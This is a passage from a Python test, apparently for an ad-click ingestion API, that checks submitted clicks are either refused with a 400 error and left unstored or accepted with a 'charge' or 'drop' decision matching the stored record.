        assert resp.status_code in (200, 400), (resp.status_code, resp.body[:300], raw[:300])
        if resp.status_code == 400:
            assert_refused(resp, None)
            message = resp.json_body["Message"]
            assert message.startswith(("clicks[0]", "body")), message
            if re.fullmatch(r"h-[0-9a-f]{32}", str(click.get("click_id"))):
                assert client.http.get(f"/v1/clicks/{click['click_id']}", headers=adserver).status_code == 404
        else:
            (result,) = resp.json_body["results"]
            assert result["decision"] in ("charge", "drop")
            view = client.http.get(f"/v1/clicks/{result['click_id']}", headers=adserver)
            assert view.status_code == 200 and view.json_body["decision"]["decision"] == result["decision"]
